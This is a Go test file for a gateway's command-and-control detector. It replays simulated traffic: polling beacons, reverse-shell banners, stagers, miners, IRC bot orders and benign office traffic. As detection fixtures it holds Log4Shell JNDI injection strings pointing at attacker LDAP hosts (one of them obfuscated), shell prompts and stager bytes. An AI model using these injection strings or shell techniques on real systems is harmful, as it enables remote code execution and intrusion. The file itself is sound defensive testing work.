package detect_test

import (
	"encoding/binary"
	"net/netip"
	"strings"
	"testing"
	"time"

	"sekisho/firmware/detect"
	"sekisho/firmware/flow"
)

const firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

func (o *office) httpGet(id uint64, from int, client, server netip.AddrPort, number int, method, host, path, agent string) {
	o.play(&flow.HTTP{Meta: o.meta(mac(from)), ConnID: id, Client: client, Server: server, Number: number, Method: method, Host: host, Path: path, UserAgent: agent, Length: -1})
}

func (o *office) httpReply(id uint64, from int, client, server netip.AddrPort, number int, contentType string, length int64, body []byte) {
	o.play(&flow.HTTPReply{Meta: flow.Meta{Time: o.now, SrcMAC: gatewayMAC, DstMAC: mac(from)}, ConnID: id, Client: client, Server: server, Number: number, Status: 200,
		ContentType: contentType, Length: length, Body: body})
}

// ask is one request with its answer, on a connection of its own.
func (o *office) httpAsk(from int, server netip.AddrPort, method, host, path, agent, contentType string, length int64, body []byte) {
	o.exchange(from, server, 6, 300, uint64(max(length, 0)), func(id uint64, c netip.AddrPort) {
		o.httpGet(id, from, c, server, 1, method, host, path, agent)
		o.httpReply(id, from, c, server, 1, contentType, length, body)
	})
}

func (o *office) firstWords(from int, server netip.AddrPort, fromServer bool, data []byte) {
	m := o.meta(mac(from))
	if fromServer {
		m.SrcMAC, m.DstMAC = m.DstMAC, m.SrcMAC
	}
	o.ids++
	o.play(&flow.Opaque{Meta: m, ConnID: o.ids, Client: port(ip(from), 40000), Server: server, FromServer: fromServer, Data: data})
}

func TestPollingForOrders(t *testing.T) {
	paths := []string{"/news.php", "/login/process.php", "/admin/get.php"}
	server := port(net4(1), 80)
	host := server.Addr().String()
	o := newOffice(t, detect.Config{})
	for i := range 12 {
		size := int64(1245)
		if i == 6 {
			size = 90_000 // an order
		}
		o.httpAsk(10, server, "GET", host, paths[i%3], firefox, "text/html", size, nil)
		if i == 6 {
			o.wait(2 * time.Second)
			o.httpAsk(10, server, "POST", host, paths[1], firefox, "text/html", 1245, nil)
		}
		o.wait(5 * time.Second)
	}
	o.want("c2_channel", detect.Medium)
	if f := o.last("c2_channel"); f.Host.IP != ip(10) || !strings.Contains(f.Explain.EN, "posts something back") {
		t.Errorf("host %v: %s", f.Host.IP, f.Explain.EN)
	}
}

func TestHonestHTTPIsNoChannel(t *testing.T) {
	nas, cloud := port(ip(66), 80), port(net4(1), 80)
	for name, play := range map[string]func(o *office){
		"page of a storage that refreshes itself": func(o *office) {
			for _, p := range []string{"/", "/style.css", "/app.js", "/logo.png"} {
				o.httpAsk(10, nas, "GET", "192.168.0.66", p, firefox, "text/html", 4000, nil)
			}
			for range 60 {
				o.httpAsk(10, nas, "GET", "192.168.0.66", "/api/status", firefox, "application/json", 310, nil)
				o.wait(5 * time.Second)
			}
		},
		"the same page, opened before the gateway started": func(o *office) {
			for range 60 {
				o.httpAsk(10, nas, "GET", "192.168.0.66", "/api/status", firefox, "application/json", 310, nil)
				o.wait(5 * time.Second)
			}
		},
		"sensor that reports to its cloud": func(o *office) {
			for range 60 {
				o.httpAsk(10, cloud, "POST", "api.example.com", "/v1/report", "sensor/1.2", "text/plain", 2, nil)
				o.wait(30 * time.Second)
			}
		},
		"agent of the machine room that asks a bare address": func(o *office) {
			for i := range 60 {
				o.httpAsk(10, cloud, "GET", cloud.Addr().String(), []string{"/machine", "/health"}[i%2], "", "text/xml", 900, nil)
				o.wait(6 * time.Second)
			}
		},
		"browsing": func(o *office) {
			for i := range 40 {
				o.httpAsk(10, cloud, "GET", "www.example.com", "/page"+string(rune('a'+i%26)), firefox, "text/html", int64(9000+377*i), nil)
				o.httpAsk(10, cloud, "GET", "www.example.com", "/p.png", firefox, "image/png", int64(100*i), nil)
				o.wait(20 * time.Second)
			}
		},
		"installer from its maker": func(o *office) {
			o.httpAsk(10, cloud, "GET", "download.example.com", "/setup.exe", firefox, "application/x-msdownload", 5<<20, []byte("MZ\x90\x00\x03\x00\x00\x00"))
			o.tlsTo(10, port(cloud.Addr(), 443), "download.example.com", 900)
		},
		"firmware of a device, by its own updater": func(o *office) {
			o.httpAsk(10, cloud, "GET", "fw.example.com", "/v2/fw.bin", "updater/3", "application/octet-stream", 5<<20, []byte("\x7fELF\x01\x01\x01\x00"))
		},
		"look-up text from outside": func(o *office) {
			o.play(&flow.HTTP{Meta: o.meta(gatewayMAC), Client: port(net4(5), 4000), Server: port(ip(20), 8080), Number: 1, Method: "GET", UserAgent: "${jndi:ldap://198.51.100.1/a}"})
		},
		"directory of the office": func(o *office) {
			o.firstWords(10, port(ip(20), 389), false, []byte("0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00"))
		},
		"chat among people": func(o *office) {
			o.irc(10, port(net4(3), 6667), false, "JOIN", "#go-nuts", "")
			o.irc(10, port(net4(3), 6667), true, "PRIVMSG", "#go-nuts", "scan the manual first, then ask")
		},
		"unknown protocols": func(o *office) {
			o.firstWords(10, port(net4(4), 9000), false, []byte{0, 0, 0, 1, 9, 9, 9})
			o.firstWords(10, port(net4(4), 9000), true, []byte{0x10, 0, 0, 0, 'M', 'Z', 0, 0}) // far too short for a program
			o.firstWords(10, port(net4(4), 9001), false, []byte(`{"method":"login","user":"a"}`))
			o.firstWords(10, port(net4(4), 9002), true, []byte("login: "))
			o.firstWords(10, port(net4(4), 9003), true, []byte("idle since 4\n"))
		},
	} {
		t.Run(name, func(t *testing.T) {
			o := newOffice(t, detect.Config{})
			o.resolve(10, "www.example.org", net4(9))
			play(o)
			o.want("c2_channel", "")
		})
	}
}

func (o *office) irc(from int, server netip.AddrPort, fromServer bool, command, target, text string) {
	m := o.meta(mac(from))
	if fromServer {
		m.SrcMAC, m.DstMAC = m.DstMAC, m.SrcMAC
	}
	o.play(&flow.IRC{Meta: m, Client: port(ip(from), 40000), Server: server, FromServer: fromServer, Command: command, Target: target, Text: text})
}

func TestFirstWordsThatGiveAnIntruderAway(t *testing.T) {
	stage := append(binary.LittleEndian.AppendUint32(nil, 179_267), "MZ\xe8\x00"...)
	for _, c := range []struct {
		name       string
		fromServer bool
		data       string
		want       detect.Confidence
		host       int
	}{
		{"cmd.exe handed out", false, "Microsoft Windows [Version 10.0.19045.2965]\r\n(c) Microsoft", detect.High, 10},
		{"PowerShell handed out", false, "Windows PowerShell running as user admin on PC1", detect.High, 10},
		{"bash without a terminal", false, "bash: cannot set terminal process group (12): Inappropriate ioctl for device\n", detect.High, 10},
		{"a Unix prompt", false, "www-data@web:/var/www$ ", detect.Medium, 10},
		{"a Unix prompt with its title", false, "\x1b]0;root@web: /root\x07root@web:~# ", detect.Medium, 10},
		{"a log that tells of a shell", false, "Nov 25 02:00:01 web cron: bash: no job control in this shell\n", "", 10},
		{"sh, by its path", false, "/bin/sh: 0: can't access tty; job control turned off\n$ ", detect.High, 10},
		{"a shell that waits to be called", true, "Microsoft Windows [Version 10.0.19045.2965]", detect.High, 66},
		{"a console that answers with its prompt", true, "root@switch:~# ", detect.Medium, 66},
		{"a program behind its length", true, string(stage), detect.Medium, 10},
		{"a command as the first word", true, "whoami\n", detect.Medium, 10},
		{"Stratum", false, `{"id":1,"method":"mining.subscribe","params":[]}`, detect.Medium, 10},
		{"Stratum of Monero", false, `{"method":"login","params":{"login":"4A","pass":"x","agent":"XMRig"},"id":1}`, detect.Medium, 10},
		{"Bitcoin", false, "\xf9\xbe\xb4\xd9version\x00\x00\x00\x00\x00\x55\x00\x00\x00abcd", detect.Low, 10},
		{"Levin", false, "\x01\x21\x01\x01\x01\x01\x01\x01\xe2\x00", detect.Low, 10},
	} {
		t.Run(c.name, func(t *testing.T) {
			o := newOffice(t, detect.Config{})
			o.arp(1, mac(66), ip(66), gatewayIP)
			m := o.meta(mac(10))
			if c.fromServer {
				m = flow.Meta{Time: o.now, SrcMAC: mac(66), DstMAC: mac(10)}
			}
			o.play(&flow.Opaque{Meta: m, ConnID: 1, Client: port(ip(10), 40000), Server: port(ip(66), 4444), FromServer: c.fromServer, Data: []byte(c.data)})
			o.want("c2_channel", c.want)
			if c.want == "" {
				return
			}
			if f := o.last("c2_channel"); f.Host.MAC != mac(c.host) {
				t.Errorf("host is %v, want %v", f.Host.MAC, mac(c.host))
			}
		})
	}
}

func TestAPromptIsNotAnyTextThatEndsLikeOne(t *testing.T) {
	o := newOffice(t, detect.Config{})
	for _, s := range []string{"price: 5$ ", "a@b # ", "# ", "user@example.com: hello\nbye$ ", "{\"mail\":\"a@b\",\"x\":\"# "} {
		o.firstWords(10, port(net4(4), 9000), false, []byte(s))
	}
	o.want("c2_channel", "")
	o.firstWords(10, port(net4(4), 9000), false, []byte("www-data@web:/var/www$ ")) // no collector of consoles is outside
	o.want("c2_channel", detect.High)
}

func TestAStageThatFollowsItsLength(t *testing.T) {
	for _, c := range []struct {
		name     string
		received uint64
		want     detect.Confidence
	}{{"all of it came", 179_271, detect.Medium}, {"something else came", 2000, ""}} {
		o := newOffice(t, detect.Config{})
		to := port(net4(1), 4444)
		o.exchange(10, to, 6, 500, c.received, func(id uint64, client netip.AddrPort) {
			m := flow.Meta{Time: o.now, SrcMAC: gatewayMAC, DstMAC: mac(10)}
			o.play(&flow.Opaque{Meta: m, ConnID: id, Client: client, Server: to, FromServer: true, Data: binary.LittleEndian.AppendUint32(nil, 179_267)})
		})
		o.want("c2_channel", c.want)
	}
}

func TestCodeLoadedByALookUp(t *testing.T) {
	bind := []byte("0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00")
	evil := net4(1)
	inject := func(o *office) {
		o.play(&flow.HTTP{Meta: flow.Meta{Time: o.now, SrcMAC: gatewayMAC, DstMAC: mac(20)}, Client: port(evil, 4000), Server: port(ip(20), 8080), Number: 1,
			Method: "GET", Path: "/", UserAgent: "${${lower:j}ndi:ldap://203.0.0.1:1389/a}"})
	}
	class := func(o *office) {
		o.httpAsk(20, port(evil, 8888), "GET", "203.0.0.1:8888", "/Run.class", "Java/1.8.0_292", "application/octet-stream", 1200, []byte("\xca\xfe\xba\xbe\x00\x00\x00\x34"))
	}
	o := newOffice(t, detect.Config{})
	inject(o)
	o.want("c2_channel", "") // the noise of the internet
	o.firstWords(20, port(evil, 1389), false, bind)
	o.want("c2_channel", detect.Medium)
	class(o)
	o.want("c2_channel", detect.High)
	if f := o.last("c2_channel"); f.Host.IP != ip(20) || f.Technique != "T1190" {
		t.Errorf("host %v, technique %s", f.Host.IP, f.Technique)
	}

	o = newOffice(t, detect.Config{})
	o.firstWords(20, port(evil, 1389), false, bind) // a directory on an odd port, alone
	o.want("c2_channel", "")
	o.now = o.now.Add(time.Hour)
	class(o)
	if o.best("c2_channel") == detect.High {
		t.Error("a class an hour later is not that look-up's")
	}
}

func TestADeviceOfTheOfficeThatInjects(t *testing.T) {
	o := newOffice(t, detect.Config{})
	o.play(&flow.HTTP{Meta: o.meta(mac(10)), Client: port(ip(10), 4000), Server: port(ip(20), 8080), Number: 1, Method: "GET", Path: "/?q=${jndi:rmi://x/a}"})
	o.want("c2_channel", detect.Medium)
}

func TestProgramsFromOddPlaces(t *testing.T) {
	bare := port(net4(1), 8081)
	for name, c := range map[string]struct {
		want detect.Confidence
		play func(o *office)
	}{
		"hidden as a picture, by a script, from a bare address": {detect.Medium, func(o *office) {
			o.httpAsk(10, bare, "GET", bare.String(), "/logo", "WindowsPowerShell/5.1", "image/png", 90_000, []byte("MZ\x90\x00\x03\x00\x00\x00"))
		}},
		"by the check sum of a stager": {detect.Medium, func(o *office) {
			o.httpAsk(10, bare, "GET", bare.String(), "/aaa9", "Mozilla/5.0", "application/octet-stream", 200_000, []byte("\xfc\xe8\x89\x00\x00\x00\x60\x89")) // 97*3+57 = 348 = 92 mod 256
		}},
		"fetched by a person, then spoken to in no known protocol": {detect.Medium, func(o *office) {
			o.httpAsk(10, bare, "GET", bare.String(), "/tool.exe", firefox, "application/x-msdownload", 90_000, []byte("MZ\x90\x00\x03\x00\x00\x00"))
			o.wait(time.Minute)
			o.firstWords(10, port(bare.Addr(), 4444), false, []byte{7, 7, 7, 7})
		}},
		"named, but its name hides it": {detect.Low, func(o *office) {
			o.httpAsk(10, port(net4(2), 80), "GET", "blog.example.net", "/wp-content/Elw3k/", firefox, "application/x-msdownload", 90_000, []byte("MZ\x90\x00\x03\x00\x00\x00"))
		}},
	} {
		t.Run(name, func(t *testing.T) {
			o := newOffice(t, detect.Config{})
			c.play(o)
			o.want("c2_channel", c.want)
		})
	}
}

func TestOrdersOverIRC(t *testing.T) {
	o := newOffice(t, detect.Config{})
	o.irc(10, port(net4(3), 7777), false, "JOIN", "#x", "")
	o.want("c2_channel", detect.Low)
	o.irc(10, port(net4(3), 7777), true, "332", "#x", ".advscan lsass 100 5 0 -r")
	o.want("c2_channel", detect.Medium)
}

func TestABotReports(t *testing.T) {
	o := newOffice(t, detect.Config{})
	o.firstWords(10, port(net4(3), 23), false, []byte{0, 0, 0, 1})
	o.want("c2_channel", detect.Medium)
}

func TestTLSWithoutANameOverAndOver(t *testing.T) {
	o := newOffice(t, detect.Config{})
	for i := range 40 {
		o.tlsTo(10, port(net4(1), 443), "", 650)
		o.wait(time.Duration(2+i%4) * time.Second)
	}
	o.want("c2_channel", detect.Low)

	page := newOffice(t, detect.Config{}) // a storage's page: several at once, on demand
	for range 10 {
		for range 6 {
			page.tlsTo(10, port(ip(66), 443), "", 650)
		}
		page.wait(30 * time.Second)
	}
	page.want("c2_channel", "")
}

func TestOneFindingForEachCause(t *testing.T) {
	o := newOffice(t, detect.Config{})
	for range 100 {
		o.firstWords(10, port(net4(1), 3333), false, []byte(`{"method":"mining.subscribe"}`))
		o.firstWords(10, port(net4(2), 3333), false, []byte(`{"method":"mining.subscribe"}`))
	}
	if len(o.found) != 1 {
		t.Errorf("%d findings", len(o.found))
	}
}

func TestPollingForAPictureThatNobodySees(t *testing.T) {
	server := port(net4(1), 80)
	o := newOffice(t, detect.Config{})
	for range 20 {
		o.httpAsk(10, server, "GET", server.Addr().String(), "/pixel.gif", firefox, "application/octet-stream", 0, nil)
		o.wait(10 * time.Second)
	}
	o.want("c2_channel", detect.Medium)

	camera := newOffice(t, detect.Config{}) // a person watches a camera
	for i := range 200 {
		camera.httpAsk(10, port(ip(66), 80), "GET", "192.168.0.66", "/snapshot.jpg", firefox, "image/jpeg", int64(40_000+i*31), nil)
		camera.wait(2 * time.Second)
	}
	camera.want("c2_channel", "")
}
